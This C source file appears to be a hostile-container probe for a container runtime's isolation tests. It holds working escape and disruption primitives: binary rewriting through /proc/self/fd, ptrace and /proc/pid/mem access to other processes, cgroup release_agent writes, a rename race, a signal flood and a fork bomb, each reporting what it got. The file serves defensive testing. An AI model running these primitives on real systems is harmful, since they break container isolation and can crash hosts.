/* What a hostile container runs: each word is one way that has led out of a container somewhere.
 *
 * It says on standard output what it got; silence is what the tests hope for. Linked statically, run as root.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/securebits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *what, long value) { printf("%s %ld\n", what, value); fflush(stdout); }

/* fds: every descriptor that this process began with. */
static int fds(void)
{
    for (int fd = 0; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0) say("fd", fd);
    return 0;
}

/* inherited: all that a process gets from whoever started it, besides its environment. */
static int inherited(char **envp)
{
    sigset_t mask;
    cpu_set_t cpus;
    struct rlimit limit;
    char adjustment[16] = "";
    fds();
    sigprocmask(SIG_BLOCK, NULL, &mask);
    for (int number = 1; number < 65; number++) {
        unsigned char raw[152] = {0};
        if (sigismember(&mask, number) == 1) say("blocked", number);
        if (syscall(SYS_rt_sigaction, number, NULL, raw, 8) == 0 && *(void **)raw == (void *)SIG_IGN) say("ignored", number);
    }
    mode_t umask_ = umask(0);
    umask(umask_);
    say("umask", umask_);
    say("nice", getpriority(PRIO_PROCESS, 0));
    say("policy", sched_getscheduler(0));
    say("ioprio", syscall(SYS_ioprio_get, 1, 0));
    say("personality", personality(0xffffffff));
    say("securebits", prctl(PR_GET_SECUREBITS));
    say("timerslack", prctl(PR_GET_TIMERSLACK));
    say("thp-disable", prctl(PR_GET_THP_DISABLE, 0, 0, 0, 0));
    sched_getaffinity(0, sizeof cpus, &cpus);
    say("cpus", CPU_COUNT(&cpus));
    int fd = open("/proc/self/oom_score_adj", O_RDONLY);
    if (fd >= 0 && read(fd, adjustment, sizeof adjustment - 1) > 0) say("oom_score_adj", atol(adjustment));
    getrlimit(RLIMIT_NOFILE, &limit);
    say("nofile", limit.rlim_cur);
    for (; *envp; envp++) printf("env %s\n", *envp);
    return 0;
}

/* outside MARKER: is the file reachable from the working directory by going up? */
static int outside(const char *marker)
{
    char path[4096], cwd[4096];
    for (int depth = 0; depth < 24; depth++) {
        path[0] = 0;
        for (int i = 0; i < depth; i++) strcat(path, "../");
        strcat(path, marker[0] == '/' ? marker + 1 : marker);
        if (access(path, F_OK) == 0) { say("escaped", depth); break; }
    }
    long length = syscall(SYS_getcwd, cwd, sizeof cwd);
    printf("cwd %s\n", length > 0 ? cwd : "?");
    return 0;
}

/* swap A B [A B...]: exchange names for ever, as fast as the kernel goes. */
static _Noreturn void swap(int count, char **names)
{
    say("swapping", count / 2);
    for (;;)
        for (int i = 0; i + 1 < count; i += 2)
            syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, names[i + 1], 2 /* RENAME_EXCHANGE */);
}

/* rewrite FD: what a descriptor of somebody's binary is good for. */
static int rewrite(int fd)
{
    char path[64], link[256] = "", byte;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, link, sizeof link - 1) > 0) printf("binary %s\n", link);
    int reader = open(path, O_RDONLY);
    say("seals", reader < 0 ? -1 : fcntl(reader, F_GET_SEALS));
    for (int i = 0; i < 200; i++) {
        int writer = open(path, O_WRONLY);
        /* The same byte again: whoever can write it can write any other. */
        if (writer >= 0 && pread(reader, &byte, 1, 0) == 1 && pwrite(writer, &byte, 1, 0) == 1) { say("written", i); break; }
        if (writer >= 0) close(writer);
        usleep(1000);
    }
    say("tried", fd);
    return 0;
}

/* Whether a path of another process leads out: MARKER is a file of the node. */
static int reaches(const char *where, const char *marker)
{
    char path[4096];
    snprintf(path, sizeof path, "%s%s", where, marker);
    return access(path, F_OK) == 0;
}

static unsigned long long capabilities(int pid, const char *name)
{
    char path[64], line[256];
    unsigned long long value = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    if (!file) return 0;
    while (fgets(line, sizeof line, file))
        if (!strncmp(line, name, strlen(name))) value = strtoull(line + strlen(name) + 1, NULL, 16);
    fclose(file);
    return value;
}

/* Look into one process by every way there is. */
static void look(int pid, const char *marker, unsigned long long mine)
{
    char path[4096], link[256];
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    if (reaches(path, marker)) say("root", pid);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    if (reaches(path, marker)) say("cwd", pid);
    for (int fd = 0; fd < 32; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        if (fd > 2 && memset(link, 0, sizeof link) && readlink(path, link, sizeof link - 1) > 0) {
            /* Pipes and sockets are its own; a path is something of the node, or leads to it. */
            if (link[0] == '/' && strncmp(link, "/dev/", 5)) printf("descriptor %d %s\n", fd, link), fflush(stdout);
        }
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        /* From here its capabilities are ours: any code can be put into it. */
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        unsigned long long theirs = capabilities(pid, "CapPrm:");
        if (theirs & ~mine) printf("stronger %llx\n", theirs & ~mine), fflush(stdout);
        int status;
        if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
            theirs = capabilities(pid, "CapPrm:");
            if (theirs & ~mine) printf("stronger %llx\n", theirs & ~mine), fflush(stdout);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    if (memory >= 0) {
        unsigned long long theirs = capabilities(pid, "CapPrm:");
        if (theirs & ~mine) printf("memory %llx\n", theirs & ~mine), fflush(stdout);
        close(memory);
    }
}

/* watch MARKER MINE: attack every process that appears; MINE is what this container may do, in hexadecimal. */
static _Noreturn void watch(const char *marker, const char *mine_)
{
    unsigned long long mine = strtoull(mine_, NULL, 16);
    int newest = getpid(), self = newest;
    say("watching", self);
    for (;;) {
        /* The next pids: a new process has one of them, and there is no time to read a directory. */
        for (int pid = newest + 1; pid < newest + 16; pid++)
            if (kill(pid, 0) == 0) {
                look(pid, marker, mine);
                newest = pid;
            }
    }
}

/* look PID MARKER MINE: attack one process. */
static int look_once(int pid, const char *marker, const char *mine)
{
    look(pid, marker, strtoull(mine, NULL, 16));
    say("looked", pid);
    return 0;
}

/* signals NUMBER...: send them to everybody for ever. */
static _Noreturn void signals(int count, char **numbers)
{
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    say("signalling", count);
    for (;;)
        for (int i = 0; i < count; i++) kill(-1, atoi(numbers[i]));
}

/* bomb: as many processes as there can be, that ignore what can be ignored and leave every group. */
static _Noreturn void bomb(void)
{
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    say("bomb", getpid());
    for (;;)
        if (fork() == 0) setsid();
}

/* agent PATH: have the kernel run a program of ours, by a cgroup's release agent. */
static int agent(void)
{
    const char *options[] = {"memory", "rdma", "misc", "pids", "cpu", "cpuset", "devices", "freezer", "none,name=evil"};
    DIR *hierarchies = opendir("/sys/fs/cgroup");
    struct dirent *entry;
    char path[512];
    for (; hierarchies && (entry = readdir(hierarchies));)
        for (const char **name = (const char *[]){"release_agent", "notify_on_release", "cgroup.procs", "tasks", "cgroup.subtree_control", NULL}; *name; name++) {
            snprintf(path, sizeof path, "/sys/fs/cgroup/%s/%s", entry->d_name, *name);
            int fd = open(path, O_WRONLY);
            if (fd >= 0) printf("open %s\n", path), fflush(stdout);
        }
    if (mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) say("remounted", 0);
    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
    mkdir("/tmp/agent", 0755);
    for (unsigned i = 0; i < sizeof options / sizeof *options; i++)
        if (mount("cgroup", "/tmp/agent", "cgroup", 0, options[i]) == 0) {
            int fd = open("/tmp/agent/release_agent", O_WRONLY);
            if (fd >= 0 && write(fd, "/tmp/x", 6) == 6) printf("agent %s\n", options[i]), fflush(stdout);
            umount("/tmp/agent");
        }
    say("tried", sizeof options / sizeof *options);
    return 0;
}

/* abstract: connect to every socket in this network namespace that has a name without a file. */
static int abstract(void)
{
    char line[512];
    FILE *file = fopen("/proc/net/unix", "r");
    int tried = 0;
    while (file && fgets(line, sizeof line, file)) {
        char *name = strchr(line, '@');
        if (!name) continue;
        name[strcspn(name, "\n")] = 0;
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        size_t length = strlen(name);
        memcpy(address.sun_path + 1, name + 1, length - 1);
        for (int kind = 0; kind < 3; kind++) {
            int sock = socket(AF_UNIX, (int[]){SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM}[kind], 0);
            if (connect(sock, (void *)&address, sizeof(sa_family_t) + length) == 0) printf("connected %s\n", name), fflush(stdout);
            close(sock);
        }
        tried++;
    }
    say("abstract", tried);
    return 0;
}

/* hold DIRECTORY: keep namespaces, files and mounts busy, out of reach of anybody who only knows the parent. */
static int hold(const char *directory)
{
    for (int i = 0; i < 8; i++)
        if (fork() == 0) {
            for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
            setsid();
            if (chdir(directory)) return 1;
            char name[64];
            snprintf(name, sizeof name, "held-%d", i);
            (void)!open(name, O_CREAT | O_RDWR, 0600);
            for (const char **kind = (const char *[]){"mnt", "net", "ipc", "uts", "pid", "cgroup", NULL}; *kind; kind++) {
                char path[64];
                snprintf(path, sizeof path, "/proc/self/ns/%s", *kind);
                (void)!open(path, O_RDONLY);
            }
            unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET);
            mount("held", ".", "tmpfs", 0, NULL);
            if (fork() == 0) setsid();
            for (;;) pause();
        }
    say("holding", 8);
    for (;;) pause();
}

int main(int argc, char **argv, char **envp)
{
    const char *word = argc > 1 ? argv[1] : "";
    if (!strcmp(word, "fds")) return fds();
    if (!strcmp(word, "inherited")) return inherited(envp);
    if (!strcmp(word, "outside")) return outside(argv[2]);
    if (!strcmp(word, "swap")) swap(argc - 2, argv + 2);
    if (!strcmp(word, "rewrite")) return rewrite(atoi(argv[2]));
    if (!strcmp(word, "watch")) watch(argv[2], argv[3]);
    if (!strcmp(word, "look")) return look_once(atoi(argv[2]), argv[3], argv[4]);
    if (!strcmp(word, "signals")) signals(argc - 2, argv + 2);
    if (!strcmp(word, "bomb")) bomb();
    if (!strcmp(word, "agent")) return agent();
    if (!strcmp(word, "abstract")) return abstract();
    if (!strcmp(word, "hold")) return hold(argv[2]);
    fprintf(stderr, "evil knows no %s\n", word);
    return 2;
}
